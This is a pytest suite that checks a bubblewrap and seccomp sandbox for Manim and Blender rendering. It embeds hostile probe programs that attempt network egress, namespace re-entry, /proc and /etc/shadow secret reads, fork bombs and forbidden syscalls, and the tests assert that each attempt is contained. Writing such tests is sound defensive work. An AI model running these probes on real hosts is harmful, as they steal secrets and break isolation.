"""Hostile programs against the process sandbox (bubblewrap) of the Manim and Blender engines.

Each case is a model-written program that attacks the host: network egress to the canary's
loopback TCP/UDP server, namespace re-entry through ``/proc/<pid>/ns/net``, ancestor ``/proc``
reads, secrets in the environment, in files and in exception messages, writes outside the work
dir, fork bombs and process floods, detached ``setsid`` grandchildren, infinite loops, unbounded
memory, huge output and huge files. For every case: the canary records zero hits, no canary value
shows up in the result (error, logs) or in anything the render left behind, the render ends
within its limit plus a small margin, no process of it survives, the failure class is the
expected one, and the next (good) program renders with the same engine.

The seccomp section at the end checks the sandbox's system-call filter: nested user namespaces
and every other namespace, tracing, mounts, keyrings, bpf, perf, userfaultfd and io_uring are
refused (in `run_sandboxed`, in Manim and Blender programs, and for Chromium under bubblewrap),
while threads, fork/exec and multiprocessing still work.
"""

from __future__ import annotations

import json
import os
import platform
import secrets
import shutil
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import pytest

from visphy_core.api.engine import FailureClass, Program, RenderContract
from visphy_core.sandbox import process as sp
from visphy_core.sandbox import syscall_filter
from visphy_core.sandbox.process import Limits, isolation_available, isolation_level, run_sandboxed

from .conftest import wait_no_survivors

ISOLATED, WHY = isolation_available()
pytestmark = pytest.mark.skipif(not ISOLATED, reason=f"no bubblewrap sandbox here: {WHY}")

F = FailureClass
MARGIN_S = 5.0

# ------------------------------------------------------------------------------ shared snippets
#: Python that collects what an attacker would try, into REPORT (a list of strings).
PROBES = r'''
import ctypes, json, os, socket, sys
REPORT = []
def note(*a):
    REPORT.append(" ".join(str(x) for x in a)[:2000])
def pids():
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
def egress():
    try:
        s = socket.create_connection(("127.0.0.1", __CANARY_PORT__), timeout=2)
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        note("tcp connected", s.recv(100))
    except OSError as exc:
        note("tcp", exc)
    for host in ("127.0.0.1", "10.0.2.2", "8.8.8.8"):
        try:
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.sendto(b"leak", (host, __CANARY_PORT__))
            note("udp sent to", host)
        except OSError as exc:
            note("udp", host, exc)
def reenter():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in pids():
        for ns in ("net", "mnt", "pid", "user", "ipc", "uts"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{ns}", os.O_RDONLY)
            except OSError as exc:
                note("open ns", pid, ns, exc)
                continue
            rc = libc.setns(fd, 0)
            note("setns", pid, ns, rc, os.strerror(ctypes.get_errno()) if rc else "OK")
    egress()
def proc_dump():
    for pid in pids():
        for what in ("environ", "cmdline", "maps"):
            try:
                note(pid, what, open(f"/proc/{pid}/{what}", "rb").read()[:3000])
            except OSError as exc:
                note(pid, what, exc)
    for pid in pids():  # the root of every visible process
        try:
            note(pid, "root", os.listdir(f"/proc/{pid}/root/"))
        except OSError as exc:
            note(pid, "root", exc)
def read_files():
    for path in ("__CANARY_FILE__", "__CANARY_DOTENV__", "/etc/passwd", "/etc/shadow",
                 "/root/.bash_history", "/proc/1/environ"):
        try:
            note(path, open(path).read())
        except OSError as exc:
            note(path, exc)
    for d in ("/root", "/home", "/work", os.path.dirname("__CANARY_FILE__")):
        try:
            note(d, os.listdir(d))
        except OSError as exc:
            note(d, exc)
def write_outside():
    targets = ["/x", "/usr/x", "/etc/x", sys.prefix + "/x", sys.base_prefix + "/x",
               os.path.dirname("__CANARY_FILE__") + "/x", "/root/x", "/dev/shm/__MARKER__",
               "/tmp/__MARKER__"]
    for t in targets:
        try:
            with open(t, "w") as fh:
                fh.write("x")
            note("wrote", t)
        except OSError as exc:
            note("write", t, exc)
def detach(keep_stdout):
    # a double-forked, setsid'd grandchild that sleeps, argv marked with __MARKER__
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            if not keep_stdout:
                fd = os.open(os.devnull, os.O_RDWR)
                for i in (0, 1, 2):
                    os.dup2(fd, i)
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)",
                                      "__MARKER__"])
        os._exit(0)
    os.wait()
'''

# ------------------------------------------------------------------------------ Manim programs
M_HEAD = ("from manim import *\n" + PROBES
          + "\nclass GeneratedScene(Scene):\n    def construct(self):\n")
M_GOOD_BODY = ("        d = Dot(point=LEFT, radius=0.5, color='#f34f46')\n        self.add(d)\n"
               "        self.play(d.animate.shift(RIGHT), run_time=0.3)\n")


def manim(body: str, good_after: bool = False) -> str:
    return M_HEAD + textwrap.indent(textwrap.dedent(body), " " * 8) + (
        M_GOOD_BODY if good_after else "")


# ------------------------------------------------------------------------------ Blender programs
B_GOOD = r'''
scene = bpy.context.scene
W, H = scene.render.resolution_x, scene.render.resolution_y
cam = bpy.data.objects.new("cam", bpy.data.cameras.new("cam"))
scene.collection.objects.link(cam)
cam.data.type = "ORTHO"; cam.data.ortho_scale = W
cam.location = (W / 2, H / 2, 100)
scene.camera = cam
scene.world = bpy.data.worlds.new("w"); scene.world.color = (1, 1, 1)
scene.display.shading.light = "FLAT"
scene.display.shading.color_type = "MATERIAL"
mat = bpy.data.materials.new("red"); mat.diffuse_color = (0.9, 0.08, 0.06, 1)
mesh = bpy.data.meshes.new("sq")
mesh.from_pydata([(0, 0, 0), (16, 0, 0), (16, 16, 0), (0, 16, 0)], [], [(0, 1, 2, 3)])
mesh.materials.append(mat)
sq = bpy.data.objects.new("sq", mesh); scene.collection.objects.link(sq)
for f in range(scene.frame_start, scene.frame_end + 1):
    sq.location = (8 + 8 * (f - scene.frame_start), 20, 0)
    sq.keyframe_insert("location", frame=f)
'''


def blender(body: str, good_after: bool = False) -> str:
    return "import bpy\n" + PROBES + textwrap.dedent(body) + (B_GOOD if good_after else "")


# ------------------------------------------------------------------------------ the cases
RAISE = "raise RuntimeError('REPORT: ' + json.dumps(REPORT))\n"

CASES = [
    # (engine, id, source, expected failure (None = ok), timeout_s)
    ("manim", "egress_tcp_udp", manim("egress()\n" + RAISE), F.RUNTIME_ERROR, 10),
    ("manim", "setns_reentry", manim("reenter()\n" + RAISE), F.RUNTIME_ERROR, 10),
    ("manim", "proc_environ_cmdline", manim("proc_dump()\n" + RAISE), F.RUNTIME_ERROR, 10),
    ("manim", "read_secret_files", manim("read_files()\n" + RAISE), F.RUNTIME_ERROR, 10),
    ("manim", "exception_with_file_contents",
     manim("raise ValueError(open('__CANARY_FILE__').read() + open('__CANARY_DOTENV__').read())\n"),
     F.RUNTIME_ERROR, 10),
    ("manim", "print_environ",
     manim("print(dict(os.environ)); print(os.environ.get('__CANARY_ENV_NAME__'))\n"
           "raise KeyError(os.environ['__CANARY_ENV_NAME__'])\n"), F.RUNTIME_ERROR, 10),
    ("manim", "write_outside_workdir", manim("write_outside()\n" + RAISE), F.RUNTIME_ERROR, 10),
    ("manim", "fork_bomb", manim("while True:\n    os.fork()\n"), F.RESOURCE_LIMIT, 10),
    ("manim", "detached_grandchild_sleeps", manim("detach(keep_stdout=False)\n", True), None, 10),
    ("manim", "infinite_loop", manim("while True:\n    pass\n"), F.TIMEOUT, 6),
    ("manim", "unbounded_memory",
     manim("hog = []\nwhile True:\n    hog.append(bytearray(64 << 20))\n"), F.RESOURCE_LIMIT, 10),
    ("manim", "huge_stdout",
     manim("chunk = 'x' * (1 << 20)\nfor _ in range(200):\n    print(chunk)\n", True), None, 10),
    ("blender", "egress_is_a_violation", blender(
        "egress()\nsocket.create_connection(('127.0.0.1', __CANARY_PORT__), timeout=2)\n"),
     F.SANDBOX_VIOLATION, 15),
    ("blender", "setns_reentry", blender("reenter()\n" + RAISE), F.RUNTIME_ERROR, 15),
    ("blender", "proc_environ_cmdline", blender("proc_dump()\n" + RAISE), F.RUNTIME_ERROR, 15),
    ("blender", "read_files_and_environ", blender(
        "read_files()\nnote(dict(os.environ))\n" + RAISE), F.RUNTIME_ERROR, 15),
    ("blender", "exception_with_file_contents",
     blender("raise ValueError(open('__CANARY_DOTENV__').read())\n"), F.RUNTIME_ERROR, 15),
    ("blender", "write_outside_workdir", blender("write_outside()\n" + RAISE), F.RUNTIME_ERROR,
     15),
    ("blender", "process_flood", blender(
        "import subprocess\nfor _ in range(2000):\n"
        "    subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', "
        "'__MARKER__'])\n"), F.RESOURCE_LIMIT, 15),
    ("blender", "detached_grandchild_keeps_stdout_then_loops",
     blender("detach(keep_stdout=True)\nprint('looping', flush=True)\nwhile True:\n    pass\n"),
     F.TIMEOUT, 10),
    ("blender", "unbounded_memory",
     blender("hog = []\nwhile True:\n    hog.append(bytearray(64 << 20))\n"), F.RESOURCE_LIMIT,
     15),
    ("blender", "huge_files_in_workdir", blender(
        "for i in range(200):\n    open(f'junk{i}.bin', 'wb').write(os.urandom(4 << 20))\n"
        "import time\ntime.sleep(30)\n"), F.RESOURCE_LIMIT, 15),
]


def _engine(kind: str):
    if kind == "manim":
        pytest.importorskip("manim")
        from visphy_plugins.engines.manim import ManimEngine

        return ManimEngine({"memory_mb": 1536, "disk_mb": 100, "keep_workdir": True})
    from visphy_plugins.engines.blender import BlenderEngine, find_blender_python

    if find_blender_python() is None:
        pytest.skip("Blender venv missing: run scripts/setup_blender.sh")
    return BlenderEngine({"memory_mb": 3072, "disk_mb": 100, "threads": 1,
                          "keep_workdir": True})


def _good(kind: str) -> Program:
    src = manim("", True) if kind == "manim" else blender("", True)
    return Program("python", src.replace("__CANARY_PORT__", "9").replace("__MARKER__", "x"))


def _contract(timeout_s: float) -> RenderContract:
    return RenderContract(fps=10, n_frames=3, width=64, height=64, timeout_s=float(timeout_s))


@pytest.mark.parametrize(
    "kind, case, source, expected, timeout_s",
    [pytest.param(*c, id=f"{c[0]}-{c[1]}", marks=getattr(pytest.mark, c[0])) for c in CASES])
def test_hostile_program_is_contained(canary, tmp_path, monkeypatch, kind, case, source,
                                      expected, timeout_s):
    engine = _engine(kind)
    marker = f"visphy-hostile-{case}-{secrets.token_hex(6)}"
    # every work dir of this test lands in tmp_path/work (kept, so the leftovers can be scanned)
    workroot = tmp_path / "work"
    workroot.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(workroot))
    host_shm = set(os.listdir("/dev/shm"))
    program = Program("python", canary.fill(source, marker))
    engine.validate(program)
    start = time.monotonic()
    result = engine.render(program, _contract(timeout_s))
    took = time.monotonic() - start
    try:
        assert canary.hits == [], f"{case}: the program reached the host's network"
        assert canary.leaks(result.error, result.logs, workroot) == [], case
        assert took <= timeout_s + MARGIN_S, f"{case}: {took:.1f} s for a {timeout_s} s limit"
        assert wait_no_survivors(marker) == [], f"{case}: a process of the program survived"
        assert result.failure is expected, (case, result.failure, result.error,
                                            result.logs[-5:])
        assert result.isolation and result.isolation.startswith("bwrap:")
        assert not any(marker in name for name in set(os.listdir("/dev/shm")) - host_shm)
        for outside in (canary.file_path.parent / "x", canary.dotenv_path.parent / "x",
                        os.path.join(sys.prefix, "x")):
            assert not os.path.exists(outside), f"{case}: wrote {outside}"
        assert sum(len(line) for line in result.logs) < 8 << 20  # output stays bounded
        # the next, good program renders with the same engine
        good = engine.render(_good(kind), _contract(30))
        assert good.ok, (case, good.failure, good.error, good.logs[-5:])
    finally:
        shutil.rmtree(workroot, ignore_errors=True)


# ------------------------------------------------------------------------------ seccomp filter
# Nested namespaces and other kernel surfaces: a sandboxed program must not
# be able to unshare(CLONE_NEWUSER) (a full capability set in a nested user namespace) or create
# any other namespace, trace, mount, or reach keyrings, bpf, perf, userfaultfd or io_uring, while
# threads, fork/exec and multiprocessing keep working.

#: System call numbers the probe calls directly (no glibc wrapper, or to bypass glibc).
SYSCALLS = {
    "x86_64": {"clone": 56, "clone3": 435, "keyctl": 250, "add_key": 248, "bpf": 321,
               "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425,
               "process_vm_readv": 310, "pidfd_getfd": 438, "open_by_handle_at": 304,
               "fsopen": 430, "finit_module": 313},
    "aarch64": {"clone": 220, "clone3": 435, "keyctl": 219, "add_key": 217, "bpf": 280,
                "perf_event_open": 241, "userfaultfd": 282, "io_uring_setup": 425,
                "process_vm_readv": 270, "pidfd_getfd": 438, "open_by_handle_at": 265,
                "fsopen": 430, "finit_module": 273},
}

SECCOMP_PROBE = r'''
import ctypes, errno, json, os, signal, subprocess, sys, threading
NR = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
out = {}
def call(name, fn, *args):
    ctypes.set_errno(0)
    rc = fn(*args)
    if rc == 0 and name.startswith("clone"):
        os._exit(0)  # a child (the filter failed): leave at once
    out[name] = [rc, errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno()) if rc < 0 else ""]
def sys_(name, *args):
    call(name, libc.syscall, ctypes.c_long(NR[name.split(":")[0]]), *args)
CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWNS = 0x10000000, 0x40000000, 0x00020000
call("unshare:newuser", libc.unshare, CLONE_NEWUSER)
call("unshare:newnet", libc.unshare, CLONE_NEWNET)
call("unshare:newuser|newnet", libc.unshare, CLONE_NEWUSER | CLONE_NEWNET)
call("unshare:newns", libc.unshare, CLONE_NEWNS)
fd = os.open("/proc/self/ns/net", os.O_RDONLY)
call("setns", libc.setns, fd, 0)
for flag, name in ((CLONE_NEWUSER, "newuser"), (CLONE_NEWNET, "newnet"),
                   (CLONE_NEWUSER | CLONE_NEWNET, "newuser|newnet")):
    sys_("clone:" + name, ctypes.c_ulong(flag | signal.SIGCHLD), 0, 0, 0, 0)
args = (ctypes.c_uint64 * 11)()  # struct clone_args (v0 is 8 u64s)
args[0] = CLONE_NEWUSER
args[4] = signal.SIGCHLD
sys_("clone3", ctypes.byref(args), ctypes.c_size_t(88))
call("ptrace:traceme", libc.ptrace, 0, 0, 0, 0)
call("mount", libc.mount, b"none", b"/tmp", b"tmpfs", 0, None)
call("umount2", libc.umount2, b"/proc", 0)
call("chroot", libc.chroot, b"/tmp")
sys_("keyctl", 0, ctypes.c_long(-4), 0)   # KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING
sys_("add_key", b"user", b"visphy", b"x", 1, ctypes.c_long(-4))
sys_("bpf", 0, None, 0)                   # BPF_MAP_CREATE
sys_("perf_event_open", None, 0, -1, -1, 0)
sys_("userfaultfd", 0)
sys_("io_uring_setup", 1, None)
sys_("process_vm_readv", os.getppid(), None, 0, None, 0, 0)
sys_("pidfd_getfd", 0, 0, 0)
sys_("open_by_handle_at", 0, None, 0)
sys_("fsopen", b"tmpfs", 0)
sys_("finit_module", 0, b"", 0)
status = {k: v.strip() for k, v in (line.split(":", 1) for line in open("/proc/self/status")
                                     if ":" in line)}
out["status"] = {k: status.get(k) for k in ("Seccomp", "NoNewPrivs", "Uid", "CapEff")}
# util-linux's unshare, the way a shell user would try it
p = subprocess.run(["unshare", "--user", "--net", "true"], capture_output=True, text=True)
out["unshare(1)"] = [p.returncode, p.stderr.strip()]

# normal work still runs: threads, fork/exec, posix_spawn, multiprocessing
results = []
threads = [threading.Thread(target=lambda i=i: results.append(sum(range(i * 1000))))
           for i in range(16)]
for t in threads:
    t.start()
for t in threads:
    t.join()
out["threads"] = len(results)
out["subprocess"] = subprocess.run(["/bin/true"]).returncode
pid = os.fork()
if pid == 0:
    os._exit(7)
out["fork"] = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
out["posix_spawn"] = os.waitstatus_to_exitcode(
    os.waitpid(os.posix_spawn("/bin/true", ["/bin/true"], {}), 0)[1])
import multiprocessing
with multiprocessing.get_context("fork").Pool(2) as pool:
    out["mp_fork"] = sum(pool.map(abs, range(-50, 50)))
with multiprocessing.get_context("spawn").Pool(2) as pool:
    out["mp_spawn"] = sum(pool.map(abs, range(-50, 50)))
print(json.dumps(out))
'''

#: Each denied call of SECCOMP_PROBE and the errno the filter answers with.
DENIED_CALLS = {
    "unshare:newuser": "EPERM", "unshare:newnet": "EPERM", "unshare:newuser|newnet": "EPERM",
    "unshare:newns": "EPERM", "setns": "EPERM", "clone:newuser": "EPERM",
    "clone:newnet": "EPERM", "clone:newuser|newnet": "EPERM", "clone3": "ENOSYS",
    "ptrace:traceme": "EPERM", "mount": "EPERM", "umount2": "EPERM", "chroot": "EPERM",
    "keyctl": "EPERM", "add_key": "EPERM", "bpf": "EPERM", "perf_event_open": "EPERM",
    "userfaultfd": "EPERM", "io_uring_setup": "EPERM", "process_vm_readv": "EPERM",
    "pidfd_getfd": "EPERM", "open_by_handle_at": "EPERM", "fsopen": "EPERM",
    "finit_module": "EPERM",
}


@pytest.fixture
def sbx_work():
    path = Path(tempfile.mkdtemp(prefix="visphy-seccomp-test-"))
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.mark.skipif(platform.machine() not in SYSCALLS,
                    reason=f"no syscall table for {platform.machine()}")
def test_nested_namespaces_tracing_and_kernel_surfaces_are_denied(sbx_work):
    nr = json.dumps(SYSCALLS[platform.machine()])
    res = run_sandboxed([sys.executable, "-s", "-B", "-c", SECCOMP_PROBE, nr], sbx_work,
                        Limits(wall_s=60))
    assert res.returncode == 0, res.stderr[-3000:]
    out = json.loads(res.stdout)
    got = {name: out[name][1] for name in DENIED_CALLS}
    assert got == DENIED_CALLS, {n: out[n] for n in DENIED_CALLS if got[n] != DENIED_CALLS[n]}
    assert all(out[name][0] == -1 for name in DENIED_CALLS)
    assert out["status"]["Seccomp"] == "2" and out["status"]["NoNewPrivs"] == "1"
    assert out["status"]["Uid"].split()[0] == "65534" and int(out["status"]["CapEff"], 16) == 0
    assert out["unshare(1)"][0] != 0 and "Operation not permitted" in out["unshare(1)"][1]
    # ordinary work is untouched
    assert out["threads"] == 16 and out["subprocess"] == 0 and out["fork"] == 7
    assert out["posix_spawn"] == 0 and out["mp_fork"] == out["mp_spawn"] == 2500


def test_without_the_filter_the_same_calls_succeed(sbx_work):
    """Control: bwrap alone (no --seccomp) lets uid 65534 create a nested user namespace, which
    is what the filter takes away."""
    bwrap = sp._bwrap_path()
    mode = "root" if os.geteuid() == 0 else "user"
    sp._prepare_workdir(sbx_work, mode)
    env = {"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"}
    code = ("import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
            "print(libc.unshare(0x10000000), libc.unshare(0x40000000), "
            "[l.split()[1] for l in open('/proc/self/status') if l.startswith('Seccomp:')][0])")
    cmd = sp._bwrap_argv(bwrap, mode, sbx_work, sp.python_ro_paths(sys.executable), env,
                         Limits(), [sys.executable, "-s", "-c", code])
    if mode == "user":
        cmd = [c for c in cmd if c not in ("--unshare-user", "--disable-userns")]
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=60, env=env, cwd="/")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split() == ["0", "0", "0"]


def test_isolation_string_records_nouserns_and_seccomp(sbx_work):
    level = isolation_level()
    assert level.startswith("bwrap:uid65534,") and level.endswith(",nouserns,seccomp")
    for part in ("netns", "pidns", "ipcns", "utsns", "mountns"):
        assert part in level.split(",")
    res = run_sandboxed(["/bin/true"], sbx_work, Limits(wall_s=10))
    assert res.returncode == 0 and res.isolation == level


def test_filter_is_built_by_libseccomp_once_per_process():
    program = syscall_filter.bpf_program()
    assert program and len(program) % 8 == 0  # struct sock_filter: 8 bytes per instruction
    assert syscall_filter.bpf_program() is program  # cached
    if os.access(syscall_filter.SYSTEM_PYTHON, os.X_OK):
        try:
            other = syscall_filter._build_with_system_python()
        except syscall_filter.FilterUnavailable as exc:
            pytest.skip(f"the system python has no libseccomp binding: {exc}")
        assert other == program  # the fallback for another interpreter builds the same filter


@pytest.fixture
def no_filter(monkeypatch):
    """Pretend libseccomp's binding is missing (the probe is rerun with it missing, and again
    afterwards with it back)."""
    monkeypatch.setattr(syscall_filter, "_cached", lambda: syscall_filter.FilterUnavailable(
        "libseccomp's Python binding is not importable; " + syscall_filter.INSTALL_HINT))
    monkeypatch.delenv(sp.ALLOW_UNISOLATED_ENV, raising=False)
    sp.configure(allow_unisolated=None)
    sp._probe.cache_clear()
    yield
    monkeypatch.undo()
    sp.configure(allow_unisolated=None)
    sp._probe.cache_clear()


def test_without_the_filter_untrusted_code_is_refused(sbx_work, no_filter, monkeypatch):
    res = run_sandboxed([sys.executable, "-c", "open('ran', 'w').write('1')"], sbx_work,
                        Limits(wall_s=10))
    assert res.refused and res.returncode is None and not (sbx_work / "ran").exists()
    assert "no seccomp filter" in res.stderr and "python3-seccomp" in res.stderr
    assert isolation_level().startswith("refused: no seccomp filter")
    monkeypatch.setenv(sp.ALLOW_UNISOLATED_ENV, "1")  # the explicit opt-out still applies
    res = run_sandboxed(["/bin/true"], sbx_work, Limits(wall_s=10))
    assert res.returncode == 0 and res.isolation == "none"


NESTED_NS = r'''
libc = ctypes.CDLL(None, use_errno=True)
note("unshare", libc.unshare(0x10000000), os.strerror(ctypes.get_errno()))
note("unshare", libc.unshare(0x40000000), os.strerror(ctypes.get_errno()))
note("ptrace", libc.ptrace(0, 0, 0, 0), os.strerror(ctypes.get_errno()))
note("status", " ".join("".join(l.split()) for l in open("/proc/self/status")
                       if l.startswith(("Seccomp:", "NoNewPrivs:"))))
import threading
box = []
t = threading.Thread(target=lambda: box.append(1)); t.start(); t.join()
note("thread", box)
'''


@pytest.mark.parametrize("kind", [pytest.param("manim", marks=pytest.mark.manim),
                                  pytest.param("blender", marks=pytest.mark.blender)])
def test_engine_programs_get_no_nested_namespace(tmp_path, monkeypatch, kind):
    engine = _engine(kind)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    body = NESTED_NS + RAISE
    source = manim(body) if kind == "manim" else blender(body)
    program = Program("python", source.replace("__CANARY_PORT__", "9").replace("__MARKER__", "x"))
    result = engine.render(program, _contract(30))
    assert result.failure is F.RUNTIME_ERROR, (result.failure, result.error, result.logs[-5:])
    text = (result.error or "") + "\n".join(result.logs)
    assert text.count("Operation not permitted") >= 3, text[-3000:]
    assert "status NoNewPrivs:1 Seccomp:2" in text and "thread [1]" in text
    assert result.isolation and result.isolation.endswith(",nouserns,seccomp")
    good = engine.render(_good(kind), _contract(30))
    assert good.ok, (good.failure, good.error, good.logs[-5:])


@pytest.mark.browser
def test_chromium_under_bubblewrap_runs_with_the_filter():
    """Every Chromium process (browser, renderers, GPU, utility) runs with the seccomp filter and
    no_new_privs, and still renders."""
    pytest.importorskip("playwright")
    from visphy_core.sandbox.browser import ISOLATION_BWRAP, BrowserPool
    from visphy_core.sandbox.chromium import bwrap_for_chromium, descendants

    if bwrap_for_chromium()[0] is None:
        pytest.skip(f"no bubblewrap level for Chromium here: {bwrap_for_chromium()[1]}")
    html = ("<html><body><canvas id='c' width='64' height='64'></canvas><script>"
            "const x = document.getElementById('c').getContext('2d');"
            "x.fillStyle = '#f00'; x.fillRect(0, 0, 64, 64);</script></body></html>")
    with BrowserPool() as pool:
        cap = pool.render_page(html, {}, [0.0], width=64, height=64, timeout_s=30)
        assert len(cap.frames) == 1, (cap.errors, cap.infra_error)
        assert cap.isolation == ISOLATION_BWRAP and ",nouserns,seccomp," in ISOLATION_BWRAP
        assert cap.frames[0][32, 32, 0] > 200  # it rendered
        seen = 0
        for pid in descendants(pool._browsers[0].pid):
            try:
                cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
                status = open(f"/proc/{pid}/status").read()
            except OSError:
                continue
            if b"chromium" in cmdline.split(b"\0")[0] or b"--type=" in cmdline:
                seen += 1
                fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
                assert fields["Seccomp"].strip() == "2", (pid, cmdline[:200])
                assert fields["NoNewPrivs"].strip() == "1", (pid, cmdline[:200])
        assert seen, "found no Chromium process under the launcher"
